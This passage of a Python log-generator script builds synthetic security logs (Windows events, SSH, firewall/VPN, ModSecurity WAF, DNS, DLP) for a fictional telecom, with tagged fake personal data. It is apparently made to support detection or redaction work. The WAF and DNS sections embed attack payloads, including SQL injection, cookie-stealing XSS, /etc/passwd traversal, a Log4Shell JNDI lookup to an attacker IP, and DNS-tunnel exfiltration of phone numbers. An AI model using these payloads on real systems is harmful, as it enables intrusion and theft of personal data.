                f"<EventID>{eid}</EventID><Version>{2 if eid == 4624 else 0}</Version><Level>0</Level><Task>{task}</Task><Opcode>0</Opcode>",
                f"<Keywords>{kw}</Keywords><TimeCreated SystemTime='{st}'/><EventRecordID>{rec}</EventRecordID>",
                f"<Correlation ActivityID='{{{uuid4().upper()}}}'/><Execution ProcessID='{R.choice([788, 812, 696])}' ThreadID='{R.randrange(1000, 9000)}'/>",
                f"<Channel>Security</Channel><Computer>{dc_name}</Computer><Security/></System><EventData>"]

        def data(name, val):
            return [f"<Data Name='{name}'>", X(val), "</Data>"]
        rid = R.randrange(1100, 5000)
        ws = e.host
        src_choice = R.random()
        if src_choice < 0.7:
            ipv = IP(e.ip)
        elif src_choice < 0.85:
            ipv = IP(R.choice(ATTACKERS + MOBILE_PUB))
        else:
            ipv = IP("::ffff:" + e.ip)
        body = []
        if eid == 4624:
            lt = R.choice([2, 3, 3, 3, 10, 7])
            body += data("SubjectUserSid", "S-1-5-18") + data("SubjectUserName", "BJ-DC01$") + data("SubjectDomainName", "HUACHEN") + data("SubjectLogonId", "0x3e7")
            body += data("TargetUserSid", f"{SIDBASE}-{rid}") + data("TargetUserName", e.account) + data("TargetDomainName", "HUACHEN")
            body += data("TargetLogonId", f"0x{R.randrange(0x100000, 0xfffffff):x}") + data("LogonType", str(lt))
            body += data("LogonProcessName", "NtLmSsp " if lt == 3 else "User32 ") + data("AuthenticationPackageName", "NTLM" if lt == 3 else "Negotiate")
            body += data("WorkstationName", ws) + data("LogonGuid", "{" + uuid4() + "}") + data("TransmittedServices", "-")
            body += data("LmPackageName", "NTLM V2" if lt == 3 else "-") + data("KeyLength", "128" if lt == 3 else "0")
            body += data("ProcessId", "0x0" if lt == 3 else f"0x{R.randrange(0x100, 0x2000):x}")
            body += data("ProcessName", "-" if lt == 3 else "C:\\Windows\\System32\\svchost.exe")
            body += data("IpAddress", S([ipv])) + data("IpPort", str(R.randrange(49152, 65535)))
            body += data("ImpersonationLevel", "%%1833") + data("RestrictedAdminMode", "-") + data("TargetOutboundUserName", "-")
            body += data("TargetOutboundDomainName", "-") + data("VirtualAccount", "%%1843") + data("TargetLinkedLogonId", "0x0")
            body += data("ElevatedToken", "%%1843")
        elif eid == 4625:
            body += data("SubjectUserSid", "S-1-0-0") + data("SubjectUserName", "-") + data("SubjectDomainName", "-") + data("SubjectLogonId", "0x0")
            body += data("TargetUserSid", "S-1-0-0") + data("TargetUserName", R.choice([e.account, "administrator", "admin", "test", e.account]))
            body += data("TargetDomainName", "HUACHEN") + data("Status", "0xc000006d") + data("FailureReason", "%%2313")
            body += data("SubStatus", R.choice(["0xc000006a", "0xc0000064"])) + data("LogonType", "3")
            body += data("LogonProcessName", "NtLmSsp ") + data("AuthenticationPackageName", "NTLM")
            body += data("WorkstationName", R.choice([ws, "-", "kali"])) + data("TransmittedServices", "-") + data("LmPackageName", "-")
            body += data("KeyLength", "0") + data("ProcessId", "0x0") + data("ProcessName", "-")
            body += data("IpAddress", S([ipv])) + data("IpPort", str(R.randrange(1024, 65535)))
        elif eid == 4768:
            body += data("TargetUserName", e.account) + data("TargetDomainName", "CORP.HUACHENTEL.COM.CN")
            body += data("TargetSid", f"{SIDBASE}-{rid}") + data("ServiceName", "krbtgt") + data("ServiceSid", f"{SIDBASE}-502")
            body += data("TicketOptions", "0x40810010") + data("Status", "0x0") + data("TicketEncryptionType", "0x12")
            body += data("PreAuthType", "2") + data("IpAddress", S([IP("::ffff:" + e.ip)])) + data("IpPort", str(R.randrange(49152, 65535)))
            body += data("CertIssuerName", "") + data("CertSerialNumber", "") + data("CertThumbprint", "")
        elif eid == 4740:
            body += data("TargetUserName", e.account) + data("TargetDomainName", ws) + data("TargetSid", f"{SIDBASE}-{rid}")
            body += data("SubjectUserSid", "S-1-5-18") + data("SubjectUserName", "BJ-DC01$") + data("SubjectDomainName", "HUACHEN")
            body += data("SubjectLogonId", "0x3e7")
        elif eid == 4720:
            body += data("TargetUserName", e.account) + data("TargetDomainName", "HUACHEN") + data("TargetSid", f"{SIDBASE}-{rid}")
            body += data("SubjectUserSid", f"{SIDBASE}-1105") + data("SubjectUserName", "it_admin") + data("SubjectDomainName", "HUACHEN")
            body += data("SubjectLogonId", f"0x{R.randrange(0x100000, 0xfffffff):x}") + data("PrivilegeList", "-")
            body += data("SamAccountName", e.account) + data("DisplayName", S([NM(e.name)]))
            body += data("UserPrincipalName", S([EM(f"{e.account}@{ADDOM}")])) + data("HomeDirectory", "%%1793")
            body += data("HomePath", "%%1793") + data("ScriptPath", "%%1793") + data("ProfilePath", "%%1793")
            body += data("UserWorkstations", "%%1793") + data("PasswordLastSet", "%%1794") + data("AccountExpires", "%%1794")
            body += data("PrimaryGroupId", "513") + data("AllowedToDelegateTo", "-") + data("OldUacValue", "0x0")
            body += data("NewUacValue", "0x15") + data("UserAccountControl", "%%2080 %%2082 %%2084")
            body += data("UserParameters", "%%1793") + data("SidHistory", "-") + data("LogonHours", "%%1797")
        else:
            body += data("SubjectUserSid", f"{SIDBASE}-{rid}") + data("SubjectUserName", e.account) + data("SubjectDomainName", "HUACHEN")
            body += data("SubjectLogonId", f"0x{R.randrange(0x100000, 0xfffffff):x}") + data("LogonGuid", "{" + uuid4() + "}")
            body += data("TargetUserName", "administrator") + data("TargetDomainName", "HUACHEN") + data("TargetLogonGuid", "{00000000-0000-0000-0000-000000000000}")
            body += data("TargetServerName", "bj-sql01.corp.huachentel.com.cn") + data("TargetInfo", "bj-sql01.corp.huachentel.com.cn")
            body += data("ProcessId", f"0x{R.randrange(0x100, 0x2000):x}") + data("ProcessName", "C:\\Windows\\System32\\runas.exe")
            body += data("IpAddress", S([IP(f"10.10.5.{R.randrange(10, 40)}")])) + data("IpPort", "445")
        d.ln(sysx, body, "</EventData></Event>")
    d.ln("</Events>")
    return d


def f_authlog(emps):
    d = Doc("auth.log")
    host = "bj-jump01"
    pid = 120000
    d.ln(f"{syslog_ts(BASE)} {host} sshd[1022]: Server listening on ", IP("0.0.0.0"), " port 22.")
    for t in ts_seq(BASE, 46, 1, 70):
        T = syslog_ts(t)
        pid += R.randrange(1, 90)
        e = R.choice(emps)
        k = R.random()
        if k < 0.35:
            a = IP(R.choice(ATTACKERS))
            port = R.randrange(1024, 65535)
            u = R.choice(["root", "admin", "oracle", "test", "ubuntu", "postgres", "git", "user"])
            if u != "root":
                d.ln(f"{T} {host} sshd[{pid}]: Invalid user {u} from ", a, f" port {port}")
            d.ln(f"{T} {host} sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=",
                 a, f"  user={u}" if u == "root" else "")
            d.ln(f"{T} {host} sshd[{pid}]: Failed password for {'invalid user ' if u != 'root' else ''}{u} from ", a, f" port {port} ssh2")
            d.ln(f"{T} {host} sshd[{pid}]: Connection closed by {'invalid user ' + u + ' ' if u != 'root' else 'authenticating user root '}", a, f" port {port} [preauth]")
        elif k < 0.62:
            src = IP(R.choice([e.ip, e.ip, f"10.212.{R.randrange(1, 4)}.{R.randrange(2, 250)}"]))
            port = R.randrange(49152, 65535)
            if R.random() < 0.6:
                d.ln(f"{T} {host} sshd[{pid}]: Accepted publickey for {e.account} from ", src,
                     f" port {port} ssh2: ED25519 SHA256:{base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode().rstrip('=')}")
            else:
                d.ln(f"{T} {host} sshd[{pid}]: Accepted password for {e.account} from ", src, f" port {port} ssh2")
            d.ln(f"{T} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {e.account}(uid={R.randrange(1001, 1200)}) by (uid=0)")
            d.ln(f"{T} {host} systemd-logind[812]: New session {R.randrange(1000, 9999)} of user {e.account}.")
        elif k < 0.78:
            cmd = R.choice([
                ["/usr/bin/mysql -h ", IP(f"10.10.8.{R.randrange(10, 60)}"), " -u dba_ro -p", CR(make_password()), " -e select count(*) from crm.customer"],
                ["/usr/bin/sshpass -p ", CR(make_password()), " ssh root@", IP(f"10.10.8.{R.randrange(10, 60)}")],
                ["/usr/bin/curl -s -H Authorization: Bearer ", CR(make_jwt(e.account)), " http://", IP("10.10.8.20"), ":8080/crm/api/export"],
                ["/usr/bin/systemctl restart nginx"],
                ["/usr/bin/redis-cli -h ", IP(f"10.10.8.{R.randrange(10, 60)}"), " -a ", CR(make_password()), " info"],
                ["/usr/bin/tail -n 200 /var/log/nginx/access.log"],
                ["/usr/sbin/iptables -I INPUT -s ", IP(R.choice(ATTACKERS)), "/32 -j DROP"],
                ["/usr/bin/vim /etc/hosts"],
            ])
            d.ln(f"{T} {host} sudo: {e.account:>10} : TTY=pts/{R.randrange(0, 9)} ; PWD=/home/{e.account} ; USER=root ; COMMAND=", cmd)
            d.ln(f"{T} {host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {e.account}(uid={R.randrange(1001, 1200)})")
        elif k < 0.86:
            a = IP(R.choice(ATTACKERS))
            d.ln(f"{T} {host} sshd[{pid}]: error: kex_exchange_identification: Connection closed by remote host")
            d.ln(f"{T} {host} sshd[{pid}]: Connection closed by ", a, f" port {R.randrange(1024, 65535)}")
        elif k < 0.92:
            a = IP(R.choice(ATTACKERS))
            d.ln(f"{T} {host} sshd[{pid}]: Received disconnect from ", a, f" port {R.randrange(1024, 65535)}:11: Bye Bye [preauth]")
            d.ln(f"{T} {host} sshd[{pid}]: banner exchange: Connection from ", a, f" port {R.randrange(1024, 65535)}: invalid format")
        else:
            d.ln(f"{T} {host} CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
            d.ln(f"{T} {host} CRON[{pid}]: pam_unix(cron:session): session closed for user root")
    d.ln(f"{syslog_ts(BASE + dt.timedelta(hours=2))} {host} sshd[1022]: Received signal 15; terminating.")
    return d


def f_fw(emps):
    d = Doc("fw_vpn.log")
    sid = 3000000
    for t in ts_seq(BASE + dt.timedelta(minutes=10), 44, 1, 80):
        e = R.choice(emps)
        k = R.randrange(8)
        sid += R.randrange(1, 900)
        if k <= 1:   # FortiGate traffic
            ext = R.choice(EXT_WEB)
            sp = R.randrange(49152, 65535)
            d.ln(f"<189>date={t:%Y-%m-%d} time={t:%H:%M:%S} devname=\"FGT-BJ-HQ01\" devid=\"FG200FT922901234\" eventtime={int(epoch(t))}{digits(9)} tz=\"+0800\" ",
                 "logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=", IP(e.ip),
                 f" srcport={sp} srcintf=\"port3\" srcintfrole=\"lan\" dstip=", IP(ext),
                 f" dstport=443 dstintf=\"wan1\" dstintfrole=\"wan\" srccountry=\"Reserved\" dstcountry=\"China\" sessionid={sid} proto=6 action=\"close\" policyid=12 ",
                 f"policytype=\"policy\" poluuid=\"{uuid4()}\" policyname=\"LAN-to-WAN\" user=\"{e.account}\" group=\"Staff\" authserver=\"AD-LDAP\" service=\"HTTPS\" trandisp=\"snat\" transip=",
                 IP(EGRESS["BJ"]), f" transport={R.randrange(1024, 65535)} appid=40568 app=\"HTTPS.BROWSER\" appcat=\"Web.Client\" apprisk=\"medium\" duration={R.randrange(1, 600)} ",
                 f"sentbyte={R.randrange(300, 90000)} rcvdbyte={R.randrange(300, 900000)} sentpkt={R.randrange(3, 200)} rcvdpkt={R.randrange(3, 800)} srcmac=\"",
                 MAC(mac_fmt(e.mac, "colon")), "\" mastersrcmac=\"", MAC(mac_fmt(e.mac, "colon")),
                 f"\" srcserver=0 osname=\"Windows\" srchwvendor=\"{R.choice(['Lenovo', 'HP', 'Dell', 'Huawei'])}\"")
        elif k == 2:  # FortiGate SSL VPN
            rem = R.choice(MOBILE_PUB)
            tip = f"10.212.134.{R.randrange(2, 250)}"
            act = R.choice(["tunnel-up", "tunnel-down", "ssl-login-fail"])
            parts = [f"<189>date={t:%Y-%m-%d} time={t:%H:%M:%S} devname=\"FGT-BJ-HQ01\" devid=\"FG200FT922901234\" eventtime={int(epoch(t))}{digits(9)} tz=\"+0800\" ",
                     f"logid=\"{'0101039947' if act != 'ssl-login-fail' else '0101039426'}\" type=\"event\" subtype=\"vpn\" level=\"{'information' if act != 'ssl-login-fail' else 'alert'}\" vd=\"root\" ",
                     "logdesc=\"", {"tunnel-up": "SSL VPN tunnel up", "tunnel-down": "SSL VPN tunnel down", "ssl-login-fail": "SSL VPN login fail"}[act], "\" action=\"", act, "\" tunneltype=\"ssl-tunnel\" tunnelid=", str(R.randrange(1, 99999)), " remip=", IP(rem)]
            if act != "ssl-login-fail":
                parts += [" tunnelip=", IP(tip)]
            parts += [f" user=\"{e.account}\" group=\"SSLVPN-Staff\" dst_host=\"N/A\" reason=\"{'N/A' if act != 'ssl-login-fail' else 'sslvpn_login_permission_denied'}\" ",
                      "msg=\"", {"tunnel-up": "SSL tunnel established", "tunnel-down": "SSL tunnel shutdown", "ssl-login-fail": "SSL user failed to logged in"}[act], "\""]
            d.ln(parts)
        elif k == 3:  # Huawei USG session
            sp = R.randrange(49152, 65535)
            d.ln(f"{t:%b %d %Y %H:%M:%S} USG6650-BJ %%01SECLOG/6/SESSION_TEARDOWN(l):IPVer=4,Protocol=tcp,SourceIP=", IP(e.ip),
                 ",DestinationIP=", IP(R.choice(EXT_WEB)), f",SourcePort={sp},DestinationPort=443,SourceNatIP=", IP(EGRESS[e.city if e.city in ('BJ', 'SH') else 'BJ']),
                 f",SourceNatPort={R.randrange(2048, 60000)},BeginTime={int(epoch(t)) - 60},EndTime={int(epoch(t))},SendPkts={R.randrange(3, 90)},SendBytes={R.randrange(300, 90000)},",
                 f"RcvPkts={R.randrange(3, 90)},RcvBytes={R.randrange(300, 900000)},SourceVpnID=0,DestinationVpnID=0,SourceZone=trust,DestinationZone=untrust,PolicyName=LAN-to-WAN,CloseReason=tcp-fin.")
        elif k == 4:  # Huawei SSL VPN (SVN)
            rem = R.choice(MOBILE_PUB)
            d.ln(f"{t:%b %d %Y %H:%M:%S} USG6650-BJ %%01SVN_SYSTEM/6/VGUSERLOGIN(l): id=USG6650-BJ time=\"{t:%Y-%m-%d %H:%M:%S}\" fw=USG6650-BJ pri=6 vsys=root vgname=sslvpn ",
                 f"user=\"{e.account}\" src=", IP(rem), " dst=", IP("172.16.10.2"),
                 " duration=0 rcvd=0 sent=0 type=vpn service=5 msg=\"User logged in successfully. Virtual IP=", IP(f"10.212.1.{R.randrange(2, 250)}"),
                 ", terminal MAC=", MAC(mac_fmt(e.mac, "DASH")), ", terminal OS=Windows 10 (10.0.19045), client version=V300R001C10SPC200\"")
        elif k == 5:  # Huawei switch 802.1X
            d.ln(f"{t:%b %d %Y %H:%M:%S} BJ-ACC-SW0{R.randrange(1, 9)} %%01AAA/6/USER_EVENT(s)[{R.randrange(10, 99)}]: The user event: UserName:{e.account}, ",
                 "UserIP:", IP(e.ip), ", UserMac:", MAC(mac_fmt(e.mac, "huawei")),
                 f", Interface:GigabitEthernet0/0/{R.randrange(1, 48)}, Vlan:{R.randrange(100, 400)}, AuthMode:802.1X, Result:{R.choice(['Success', 'Success', 'Fail(Password error)'])}.")
        elif k == 6:  # Sangfor SSL VPN, Chinese
            rem = R.choice(MOBILE_PUB)
            d.ln(f"{t:%Y-%m-%d %H:%M:%S} SANGFOR-VPN01 sslvpn: 用户[", NM(e.name), f"({e.account})]从", IP(rem), "登录成功，分配虚拟IP ",
                 IP(f"10.213.{R.randrange(0, 3)}.{R.randrange(2, 250)}"), "，终端MAC ", MAC(mac_fmt(e.wmac, "DASH")), "，手机号 ",
                 PH(fmt_mobile(e.mobile, "plain")), " 短信认证通过，客户端版本 M7.6.8R2")
        else:  # FortiGate UTM webfilter with PI in URL
            c_ip = IP(e.ip)
            d.ln(f"<190>date={t:%Y-%m-%d} time={t:%H:%M:%S} devname=\"FGT-BJ-HQ01\" devid=\"FG200FT922901234\" eventtime={int(epoch(t))}{digits(9)} tz=\"+0800\" ",
                 "logid=\"0316013057\" type=\"utm\" subtype=\"webfilter\" eventtype=\"ftgd_blk\" level=\"warning\" vd=\"root\" policyid=12 sessionid=",
                 str(sid), f" user=\"{e.account}\" srcip=", c_ip, f" srcport={R.randrange(49152, 65535)} srcintf=\"port3\" dstip=", IP(R.choice(EXT_WEB)),
                 " dstport=80 dstintf=\"wan1\" proto=6 service=\"HTTP\" hostname=\"pan.example-cloud.cn\" profile=\"default\" action=\"blocked\" reqtype=\"direct\" ",
                 "url=\"http://pan.example-cloud.cn/share/upload?owner=", PH(e.mobile), "&mail=", EM(e.personal_email),
                 f"\" sentbyte={R.randrange(300, 2000)} rcvdbyte=0 direction=\"outgoing\" msg=\"URL belongs to a category with warnings enabled\" cat=33 catdesc=\"File Sharing and Storage\"")
    return d


def f_waf(emps, custs):
    d = Doc("modsec_audit.log")
    for t in ts_seq(BASE + dt.timedelta(minutes=20), 22, 5, 300):
        c = R.choice(custs)
        tid = hexs(8)
        uid = alnum(24)
        src = R.choice(MOBILE_PUB + ATTACKERS)
        sport = R.randrange(1024, 65535)
        k = R.choice([0, 1, 2, 3, 4, 5, 5, 6])
        host = R.choice(["m.huachentel.com.cn", "www.huachentel.com.cn", "pay.huachentel.com.cn"])
        ua = R.choice(UA_MOB + UA_TOOLS)
        sess = CR(hexs(32, True))
        d.ln(f"--{tid}-A--")
        d.ln(f"[{t:%d/%b/%Y:%H:%M:%S}.{R.randrange(10 ** 6):06d} +0800] {uid} ", IP(src), f" {sport} ", IP("10.10.8.40"), " 443")
        d.ln(f"--{tid}-B--")
        if k == 0:
            method = "GET"
            inj = "' or '1'='1"
            uri = S(["/api/v1/user/query?mobile=", PH(c.mobile), inj.replace("'", "%27").replace(" ", "%20").replace("=", "%3D")])
            body = None
            data = S(["Matched Data: ' or '1'='1 found within ARGS:mobile: ", PH(c.mobile), inj])
            rid_, msg = "942100", "SQL Injection Attack Detected via libinjection"
        elif k == 1:
            method = "POST"
            uri = S(["/api/v1/user/register"])
            pw = make_password()
            body = S(["{\"realName\":\"", NM(c.name), "\",\"idCardNo\":\"", RID(c.ric), "\",\"mobile\":\"", PH(c.mobile),
                      "\",\"birthday\":\"", DOB(c.dob.isoformat()), "\",\"address\":\"", ADDR(c.address),
                      "\",\"password\":\"", CR(pw), "\",\"inviteCode\":\"<script>alert(document.cookie)</script>\"}"])
            data = S(["Matched Data: <script> found within ARGS:json.inviteCode: <script>alert(document.cookie)</script>"])
            rid_, msg = "941100", "XSS Attack Detected via libinjection"
        elif k == 2:
            method = "POST"
            uri = S(["/pay/card/bind"])
            body = S(["cardNo=", CARD(c.card), "&holderName=", NM(c.name), "&idNo=", RID(c.ric), "&bankMobile=",
                      PH(c.mobile), "&cvv=123%27%20AND%20SLEEP(5)--%20"])
            data = S(["Matched Data: AND SLEEP(5) found within ARGS:cvv: 123' AND SLEEP(5)-- "])
            rid_, msg = "942160", "Detects blind sqli tests using sleep() or benchmark()"
        elif k == 3:
            method = "GET"
            uri = S(["/download.do?file=../../../../etc/passwd&user=", PH(fmt_mobile(c.mobile, "+86").replace("+", "%2B"))])
            body = None
            data = S(["Matched Data: ../ found within ARGS:file: ../../../../etc/passwd"])
            rid_, msg = "930100", "Path Traversal Attack (/../)"
        elif k == 4:
            method = "POST"
            uri = S(["/passport/login"])
            body = S(["username=", PH(c.mobile), "&password=", CR(make_password()), "&captcha=8k2m&remember=1"])
            data = S(["Matched Data: 31 found within IP:bf_counter: 31"])
            rid_, msg = "9001201", "Credential stuffing: login failures from one source exceeded 30/min"
        elif k == 5:
            method = "POST"
            uri = S(["/api/v2/travel/visa/apply"])
            body = S(["{\"applicant\":\"", NM(c.name), "\",\"pinyin\":\"", NM(c.pinyin.upper()), "\",\"passportNo\":\"", PP(c.passport),
                      "\",\"hkMacauPermit\":\"", HKM(c.permit), "\",\"dob\":\"", DOB(c.dob.strftime("%Y/%m/%d")),
                      "\",\"email\":\"", EM(c.personal_email), "\",\"remark\":\"${jndi:ldap://", IP(R.choice(ATTACKERS)), ":1389/Exploit}\"}"])
            data = S(["Matched Data: ${jndi:ldap:// found within ARGS:json.remark: ${jndi:ldap://"])
            rid_, msg = "944150", "Potential Remote Command Execution: Log4j / Log4shell"
        else:
            method = "POST"
            uri = S(["/api/v1/vehicle/etc/apply"])
            body = S(["{\"ownerName\":\"", NM(c.name), "\",\"plateNo\":\"", PLATE(make_plate("plain")), "\",\"ownerMobile\":\"",
                      PH(c.mobile), "\",\"ownerId\":\"", RID(c.ric), "\",\"remark\":\"1 union select 1,2,group_concat(id_no,mobile) from t_user\"}"])
            data = S(["Matched Data: union select found within ARGS:json.remark: 1 union select 1,2,group_concat(id_no,mobile) from t_user"])
            rid_, msg = "942190", "Detects MSSQL code execution and information gathering attempts"
        blen = len(_text(body).encode()) if body else 0
        d.ln(f"{method} ", uri, " HTTP/1.1")
        d.ln(f"Host: {host}")
        d.ln(f"User-Agent: {ua}")
        d.ln("Accept: */*")
        if body is not None:
            d.ln("Content-Type: " + ("application/json;charset=UTF-8" if _text(body).startswith("{") else "application/x-www-form-urlencoded"))
            d.ln(f"Content-Length: {blen}")
        d.ln("Cookie: JSESSIONID=", sess, f"; Hm_lvt_{hexs(32)}={int(epoch(t)) - 3600}")
        d.ln("X-Forwarded-For: ", IP(src), ", ", IP(f"100.{R.randrange(64, 127)}.{R.randrange(0, 255)}.{R.randrange(1, 254)}"))
        d.ln("X-Real-IP: ", IP(src))
        d.ln()
        if body is not None:
            d.ln(f"--{tid}-C--")
            d.ln(body)
        d.ln(f"--{tid}-F--")
        d.ln("HTTP/1.1 403 Forbidden")
        d.ln("Content-Length: 199")
        d.ln("Content-Type: text/html; charset=iso-8859-1")
        d.ln()
        d.ln(f"--{tid}-H--")
        conf = {"942": "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "941": "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
                "930": "REQUEST-930-APPLICATION-ATTACK-LFI.conf", "944": "REQUEST-944-APPLICATION-ATTACK-JAVA.conf",
                "900": "LOCAL-900-BRUTEFORCE.conf"}[rid_[:3]]
        d.ln(f"Message: Warning. detected by rule. [file \"/etc/modsecurity/crs/rules/{conf}\"] [line \"{R.randrange(40, 900)}\"] [id \"{rid_}\"] [msg \"{msg}\"] [data \"",
             data, f"\"] [severity \"CRITICAL\"] [ver \"OWASP_CRS/3.3.5\"] [tag \"application-multi\"] [tag \"paranoia-level/1\"] [tag \"OWASP_CRS\"] [tag \"capec/1000/152/248/66\"] [tag \"PCI/6.5.2\"]")
        d.ln(f"Message: Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score. [file \"/etc/modsecurity/crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf\"] [line \"81\"] [id \"949110\"] [msg \"Inbound Anomaly Score Exceeded (Total Score: {R.choice([5, 10, 15])})\"] [severity \"CRITICAL\"] [ver \"OWASP_CRS/3.3.5\"] [hostname \"{host}\"] [uri \"{_text(uri).split('?')[0]}\"] [unique_id \"{uid}\"]")
        d.ln("Apache-Handler: proxy-server")
        st_us = int(epoch(t) * 1e6)
        d.ln(f"Stopwatch: {st_us} {R.randrange(900, 9000)} (- - -)")
        d.ln(f"Stopwatch2: {st_us} {R.randrange(900, 9000)}; combined={R.randrange(300, 3000)}, p1=312, p2={R.randrange(300, 2000)}, p3=0, p4=0, p5=104, sr=0, sw=0, l=0, gc=0")
        d.ln("Producer: ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/); OWASP_CRS/3.3.5.")
        d.ln("Server: Apache/2.4.57")
        d.ln("Engine-Mode: \"ENABLED\"")
        d.ln()
        d.ln(f"--{tid}-Z--")
        d.ln()
    return d


def f_dns(emps, custs):
    d = Doc("named_queries.log")
    normal = ["www.baidu.com", "mp.weixin.qq.com", "oa.huachentel.com.cn", "mail.huachentel.com.cn", "wpad.corp.huachentel.com.cn",
              "ctldl.windowsupdate.com", "mirrors.aliyun.com", "api.hc-app.cn", "open.feishu.cn", "pan.baidu.com",
              "dns.msftncsi.com", "time.windows.com", "bj-dc01.corp.huachentel.com.cn", "_ldap._tcp.dc._msdcs.corp.huachentel.com.cn"]
    for t in ts_seq(BASE + dt.timedelta(minutes=1), 42, 0.2, 50):
        e = R.choice(emps)
        c = R.choice(custs)
        ptr = f"@0x7f{hexs(10)}"
        srv = R.choice([DNS_SRV, DNS_SRV2])
        T = t.strftime("%d-%b-%Y %H:%M:%S.") + f"{R.randrange(1000):03d}"
        k = R.random()
        cl = IP(e.ip) if R.random() < 0.8 else IP(e.ipv6)
        port = R.randrange(1024, 65535)
        if k < 0.72:
            q = R.choice(normal)
            rt = R.choice(["A", "A", "AAAA", "SRV" if q.startswith("_") else "A", "HTTPS"])
            flags = R.choice(["+", "+E(0)K", "+E(0)", "-EDC"])
            d.ln(f"{T} queries: info: client {ptr} ", cl, f"#{port} ({q}): query: {q} IN {rt} {flags} (", IP(srv), ")")
        elif k < 0.82:
            q = R.choice(["xmr.pool.minergate.com", "c2.lazarus-apt.top", "update.windows-patch.xyz", "pool.supportxmr.com"])
            d.ln(f"{T} queries: info: client {ptr} ", cl, f"#{port} ({q}): query: {q} IN A + (", IP(srv), ")")
            d.ln(f"{T} rpz: info: client {ptr} ", cl, f"#{port} ({q}): rpz QNAME NXDOMAIN rewrite {q}/A/IN via {q}.rpz.huachentel.local")
        elif k < 0.92:
            # DNS tunnelling of customer data: phone number and hex chunk in labels
            sub = R.choice([[PH(c.mobile), "."], [PH(fmt_mobile(c.mobile, "86")), "."]])
            chunk = hexs(R.choice([24, 32, 40]))
            qn = S(sub + [f"{chunk}.t.cdn-sync.top"])
            d.ln(f"{T} queries: info: client {ptr} ", cl, f"#{port} (", qn, "): query: ", qn, " IN TXT -E(0)DC (", IP(srv), ")")
        else:
            d.ln(f"{T} query-errors: info: client {ptr} ", cl, f"#{port} (oa.huachentel.com.cn): query failed (SERVFAIL) for oa.huachentel.com.cn/IN/A at query.c:{R.randrange(4000, 8000)}")
    d.ln(f"{(BASE + dt.timedelta(hours=1)).strftime('%d-%b-%Y %H:%M:%S')}.001 general: info: zone corp.huachentel.com.cn/IN: loaded serial 2024051301")
    d.ln(f"{(BASE + dt.timedelta(hours=1)).strftime('%d-%b-%Y %H:%M:%S')}.002 general: info: allow-recursion {{ ", IP("10.0.0.0"), "/8; ", IP("172.16.0.0"), "/12; ", IP("192.168.0.0"), "/16; };")
    return d


def f_dlp(emps, custs):
    d = Doc("dlp_alerts.cef")
    for t in ts_seq(BASE + dt.timedelta(minutes=15), 28, 10, 400):
        e = R.choice(emps)
        cs = R.sample(custs, 2)
        c = cs[0]
        T = syslog_ts(t)
        k = R.randrange(8)
        if k == 0:
            sig, name, sev = "DLP-1003", "敏感数据外发-身份证号", 8
            chan = ["app=SMTP duser=", EM(c.personal_email if R.random() < 0.5 else e.personal_email)]
            msg = ["命中样例：姓名：", NM(c.name), "，身份证号：", RID(c.ric), "，手机号：", PH(c.mobile), "；姓名：", NM(cs[1].name),
                   "，身份证号：", RID(cs[1].ric), "，手机号：", PH(fmt_mobile(cs[1].mobile, "dash"))]
        elif k == 1:
            sig, name, sev = "DLP-1007", "敏感数据外发-银行卡号", 9
            chan = ["app=HTTPS request=https://pan.baidu.com/rest/2.0/pcs/superfile2?method\\=upload"]
            msg = ["命中样例：客户姓名 ", NM(c.name), " 银行卡号 ", CARD(fmt_card(c.card)), " 开户行 招商银行深圳分行 预留手机 ",
                   PH(fmt_mobile(c.mobile, "+86sp")), "；另有掩码记录 ", cs[1].name[0] + "**", " 6222 **** **** 1234 已忽略"]
        elif k == 2:
            sig, name, sev = "DLP-1011", "证件号码批量拷贝至USB", 7
            chan = ["app=USB dvchost=Kingston DataTraveler 3.0 SN\\=", alnum(20, "0123456789ABCDEF")]
            msg = ["命中样例：", NM(c.name), " 护照号码 ", PP(c.passport), "；", NM(cs[1].name), " 港澳通行证 ", HKM(cs[1].permit),
                   " 出生日期 ", DOB(cs[1].dob.strftime("%Y年%m月%d日").replace("年0", "年").replace("月0", "月"))]
        elif k == 3:
            sig, name, sev = "DLP-1015", "终端标识数据外发", 7
            chan = ["app=IM dproc=WeChat.exe"]
            msg = ["命中样例：IMSI ", IMSI(c.imsi), " IMEI ", IMEI(c.imei), " ICCID ", ICCID(c.iccid),
                   "；IMSI ", IMSI(cs[1].imsi), " IMEI ", IMEI(cs[1].imei)] + [" MEID ", MEID(make_meid())]
        elif k == 4:
            sig, name, sev = "DLP-1021", "个人住址及出生日期外发", 6
            chan = ["app=SMTP duser=", EM(e.personal_email)]
            msg = ["命中样例：", NM(c.name), "，出生日期：", DOB(c.dob.strftime("%Y-%m-%d")), "，家庭住址：", ADDR(c.address),
                   "，联系电话：", PH(fmt_landline(*make_landline(CITIES[c.city]["area"]), style="dash"))]
        elif k == 5:
            sig, name, sev = "DLP-1030", "位置轨迹数据外发", 8
            chan = ["app=HTTPS request=https://api.example-bi.cn/upload"]
            msg = ["命中样例：号码 ", PH(c.mobile), " 基站 ", CELL(make_cell()), " 坐标 ", GEO(make_geo(c.city)),
                   " 时间 2024-05-12 21:14:03；号码 ", PH(cs[1].mobile), " 基站 ", CELL(make_cell()), " 坐标 ", GEO(make_geo(cs[1].city, sep=", "))]
        elif k == 6:
            sig, name, sev = "DLP-1002", "源代码中硬编码凭据", 8
            chan = ["app=GIT request=http://", IP("10.10.8.31"), "/gitlab/dev/crm-service.git"]
            msg = ["命中样例：application-prod.yml spring.datasource.password\\=", CR(make_password()), " aliyun.oss.accessKeySecret\\=",
                   CR(alnum(30)), " 提交人 ", NM(e.name)]
        else:
            sig, name, sev = "DLP-1040", "车辆信息外发", 5
            chan = ["app=PRINT dvchost=BJ-PRN-3F-02"]
            msg = ["命中样例：车主 ", NM(c.name), " 车牌 ", PLATE(make_plate()), " 手机 ", PH(fmt_mobile(c.mobile, "sp")),
